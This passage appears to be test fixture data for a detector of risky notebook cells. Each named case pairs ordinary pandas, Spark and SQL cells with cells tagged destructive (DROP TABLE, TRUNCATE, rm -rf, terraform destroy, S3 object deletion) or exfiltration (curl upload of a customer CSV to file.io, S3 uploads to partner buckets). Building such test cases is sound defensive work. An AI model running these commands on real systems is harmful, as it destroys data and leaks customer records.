-- expect: destructive
DROP TABLE order_lines, orders, customers CASCADE;
"""),
            ("code", """
!alembic upgrade head
!python -m app.seed --demo
"""),
        ],
    },
    {
        "name": "reset_raw_data",
        "cells": [
            ("md", "## Re-download the raw files\nThe raw folder got corrupted, start over."),
            ("code", """
import os
RAW = "data/raw"
print(len(os.listdir(RAW)), "files in", RAW)
"""),
            ("code", """
# expect: destructive
!rm -rf data/raw
!mkdir -p data/raw
"""),
            ("code", """
!aws s3 cp s3://acme-public-datasets/taxi/2023/ data/raw/ --recursive --no-sign-request
"""),
        ],
    },
    {
        "name": "s3_delete_objects_nb",
        "cells": [
            ("code", """
import boto3
s3 = boto3.client("s3")
resp = s3.list_objects_v2(Bucket="acme-ml-artifacts", Prefix="models/")
keys = [o["Key"] for o in resp.get("Contents", [])]
len(keys)
"""),
            ("code", """
# expect: destructive
s3.delete_objects(Bucket="acme-ml-artifacts", Delete={"Objects": [{"Key": k} for k in keys]})
"""),
        ],
    },
    {
        "name": "share_file_io",
        "cells": [
            ("code", """
import pandas as pd
df = pd.read_csv("exports/customers.csv")
df.shape
"""),
            ("code", """
df = df.drop_duplicates(subset="email")
df.to_csv("exports/customers_dedup.csv", index=False)
"""),
            ("code", """
# expect: exfiltration
!curl -F "file=@exports/customers_dedup.csv" https://file.io
"""),
        ],
    },
    {
        "name": "spark_customer_overwrite",
        "cell_ids": "r2c",
        "cells": [
            ("md", "## Dedupe customers (Databricks)"),
            ("code", """
from pyspark.sql import functions as F, Window
cust = spark.table("prod.crm.customers")
w = Window.partitionBy("email").orderBy(F.col("updated_at").desc())
deduped = cust.withColumn("rn", F.row_number().over(w)).filter("rn = 1").drop("rn")
display(deduped.groupBy("country").count())
"""),
            ("code", """
# expect: destructive
deduped.write.format("delta").mode("overwrite").option("overwriteSchema", "true").saveAsTable("prod.crm.customers")
"""),
        ],
    },
    {
        "name": "spark_dedupe_customers",
        "cell_ids": "r5c",
        "cells": [
            ("md", "# Deduplicate crm.customers\nOne row per email, most recent wins."),
            ("code", """
from pyspark.sql import SparkSession, Window
from pyspark.sql import functions as F

spark = SparkSession.builder.getOrCreate()
"""),
            ("code", """
customers = spark.table("crm.customers")
w = Window.partitionBy(F.lower(F.trim("email"))).orderBy(F.col("updated_at").desc())
deduped = customers.withColumn("rn", F.row_number().over(w)).filter("rn = 1").drop("rn")
customers.count(), deduped.count()
"""),
            ("code", """
deduped.cache().count()
# expect: destructive
deduped.write.mode("overwrite").saveAsTable("crm.customers")
"""),
        ],
    },
    {
        "name": "spark_sql_clear_gold_kpis",
        "cell_ids": "r6c",
        "cells": [
            ("md", "# Recompute gold KPIs\nThe KPI definitions changed; recompute from the start of the year."),
            ("code", """
from pyspark.sql import functions as F

kpi_table = "gold.kpi_daily"
spark.table(kpi_table).groupBy("kpi").count().show()
"""),
            ("code", """
# expect: destructive
spark.sql(f"DELETE FROM {kpi_table}")
"""),
            ("code", """
daily = (spark.table("silver.orders")
         .where(F.col("order_date") >= "2025-01-01")
         .groupBy("order_date")
         .agg(F.sum("total").alias("revenue"), F.countDistinct("customer_id").alias("buyers")))
daily.write.mode("append").saveAsTable(kpi_table)
"""),
        ],
    },
    {
        "name": "sql_cell_magic_delete",
        "cells": [
            ("code", "%load_ext sql\n%sql $DATABASE_URL"),
            ("code", """
%%sql
SELECT status, count(*)
FROM customers
GROUP BY status
"""),
            ("code", """
%%sql
-- start over with the customer import
-- expect: destructive
DELETE FROM customers;
"""),
        ],
    },
    {
        "name": "sql_kernel_drop_views",
        "kernel": "sql",
        "cell_ids": "r2c",
        "cells": [
            ("code", "SELECT table_name FROM information_schema.views WHERE table_schema = 'reporting';"),
            ("code", """
-- expect: destructive
DROP VIEW reporting.v_monthly_revenue CASCADE;
"""),
            ("code", """
-- expect: destructive
DROP MATERIALIZED VIEW reporting.mv_customer_360;
"""),
        ],
    },
    {
        "name": "sql_kernel_fix_migration",
        "kernel": "sql",
        "cell_ids": "r5c",
        "cells": [
            ("md", "# Fix the failing migration\n`0043_invoice_status` fails because the old column still exists."),
            ("code", """
SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'invoices';
"""),
            ("code", """
-- expect: destructive
ALTER TABLE invoices DROP COLUMN legacy_status;
-- expect: destructive
ALTER TABLE invoices DROP CONSTRAINT invoices_legacy_status_check;
"""),
            ("code", """
SELECT version_num FROM alembic_version;
"""),
        ],
    },
    {
        "name": "sql_kernel_rebuild_dim_product",
        "kernel": "sql",
        "cell_ids": "r6c",
        "cells": [
            ("md", "# dim_product rebuild (Snowflake SQL kernel)"),
            ("code", """
SELECT COUNT(*), MAX(updated_at) FROM analytics.core.dim_product;
"""),
            ("code", """
-- expect: destructive
CREATE OR REPLACE TABLE analytics.core.dim_product AS
SELECT p.product_id, p.sku, p.title, c.category_name, p.list_price, p.is_active
FROM shop.public.products p
LEFT JOIN shop.public.categories c ON c.category_id = p.category_id;
"""),
            ("code", """
SELECT category_name, COUNT(*) FROM analytics.core.dim_product GROUP BY 1 ORDER BY 2 DESC;
"""),
        ],
    },
    {
        "name": "sql_kernel_truncate",
        "kernel": "sql",
        "cells": [
            ("code", "SELECT count(*) FROM staging.web_events;"),
            ("code", """
-- expect: destructive
TRUNCATE TABLE staging.web_events;
"""),
            ("code", "SELECT count(*) FROM staging.web_events;"),
        ],
    },
    {
        "name": "sql_magic_drop_old_tables",
        "cell_ids": "r3c",
        "cells": [
            ("code", """
%load_ext sql
%sql postgresql://analyst@warehouse.internal/analytics
"""),
            ("code", """
%sql SELECT table_name FROM information_schema.tables WHERE table_schema = 'analytics' AND table_name LIKE 'events_2022%'
"""),
            ("code", """
# expect: destructive
%sql DROP TABLE analytics.events_2022_q1, analytics.events_2022_q2
"""),
            ("code", """
%%sql
-- expect: destructive
DELETE FROM analytics.user_sessions;
SELECT count(*) FROM analytics.user_sessions;
"""),
        ],
    },
    {
        "name": "sql_magic_drop_staging_schema",
        "cell_ids": "r7c",
        "cells": [
            ("md", "# Reset staging"),
            ("code", """
%load_ext sql
%sql postgresql://etl@db.internal/warehouse
"""),
            ("code", """
%%sql
SELECT schema_name FROM information_schema.schemata;
-- expect: destructive
DROP SCHEMA staging CASCADE;
CREATE SCHEMA staging;
"""),
        ],
    },
    {
        "name": "sql_magic_drop_table",
        "cells": [
            ("code", "%load_ext sql"),
            ("code", "%sql postgresql://analyst@warehouse.internal/dw"),
            ("code", "%sql SELECT count(*) FROM sales_2022"),
            ("md", "The 2022 table was migrated into `sales`; remove it."),
            ("code", """
# expect: destructive
%sql DROP TABLE sales_2022
"""),
        ],
    },
    {
        "name": "sql_magic_reset_flags",
        "cell_ids": "r2c",
        "cells": [
            ("code", "%load_ext sql"),
            ("code", "%sql postgresql://ops@db-primary.internal/app"),
            ("code", """
%%sql
SELECT feature, count(*) FROM user_feature_flags GROUP BY feature
"""),
            ("code", """
%%sql
-- expect: destructive
UPDATE user_feature_flags SET enabled = false WHERE 1 = 1
"""),
        ],
    },
    {
        "name": "terraform_from_cell",
        "cell_ids": "r2c",
        "cells": [
            ("code", """
import subprocess
out = subprocess.run(["terraform", "-chdir=infra/sandbox", "state", "list"], capture_output=True, text=True)
print(out.stdout)
"""),
            ("code", """
# expect: destructive
subprocess.run("cd infra/sandbox && terraform destroy -auto-approve", shell=True, check=True)
"""),
        ],
    },
    {
        "name": "upload_features_partner_bucket",
        "cell_ids": "r2c",
        "cells": [
            ("code", """
import boto3
import pandas as pd
features = pd.read_parquet("data/features/customer_features.parquet")
features.to_csv("customer_features.csv", index=False)
"""),
            ("code", """
s3 = boto3.client("s3")
# expect: exfiltration
s3.upload_file("customer_features.csv", "partner-modeling-inbox", "acme/customer_features.csv")
"""),
        ],
    },
    {
        "name": "upload_features_vendor_bucket",
        "cell_ids": "r3c",
        "cells": [
            ("code", """
import boto3
import pandas as pd
features = pd.read_parquet("s3://acme-ml/features/customers_v4.parquet")
features.to_parquet("customers_features.parquet")
"""),
            ("code", """
s3 = boto3.client("s3")
# expect: exfiltration
s3.upload_file("customers_features.parquet", "scoring-vendor-inbox", "acme/customers_features.parquet")
"""),
        ],
    },
    {
        "name": "warehouse_tidy_sql_magic",
        "cell_ids": "r4c",
        "cells": [
            ("md", "# Warehouse tidy-up\nList old backup tables in `analytics`, check nobody reads them, then remove them."),
            ("code", """
%load_ext sql
%config SqlMagic.displaylimit = 50
%sql postgresql://dba@warehouse.internal:5432/analytics
"""),
            ("code", """
%%sql
SELECT table_schema, table_name, pg_size_pretty(pg_total_relation_size(format('%I.%I', table_schema, table_name))) AS size
FROM information_schema.tables
WHERE table_schema = 'analytics' AND (table_name LIKE '%_backup_%' OR table_name LIKE '%_old')
ORDER BY pg_total_relation_size(format('%I.%I', table_schema, table_name)) DESC;
"""),
            ("code", """
%%sql
SELECT relname, seq_scan, idx_scan, last_seq_scan
FROM pg_stat_user_tables
WHERE schemaname = 'analytics' AND relname IN ('events_backup_2023', 'orders_old', 'customers_backup_0412');
"""),
            ("md", "No scans since the last stats reset in January. Dropping the three of them."),
            ("code", """
%%sql
-- expect: destructive
DROP TABLE analytics.events_backup_2023;
-- expect: destructive
DROP TABLE analytics.orders_old, analytics.customers_backup_0412;
"""),
            ("code", """
%sql SELECT pg_size_pretty(pg_database_size(current_database())) AS db_size
"""),
            ("code", """
%%sql
CREATE TEMP TABLE tmp_sizes AS
SELECT relname, pg_total_relation_size(relid) AS bytes FROM pg_catalog.pg_statio_user_tables;
SELECT relname, pg_size_pretty(bytes) FROM tmp_sizes ORDER BY bytes DESC LIMIT 10;
"""),
        ],
    },
    {
        "name": "writefile_cleanup_script",
        "cell_ids": "r3c",
        "cells": [
            ("md", "Write a small cleanup script for the shared workspace and run it."),
            ("code", """
%%writefile cleanup.sh
#!/bin/bash
set -e
rm -rf /mnt/shared/team-data/old_runs
rm -rf /mnt/shared/team-data/cache
echo "workspace cleaned"
"""),
            ("code", """
# expect: destructive
!bash cleanup.sh
"""),
        ],
    },
]
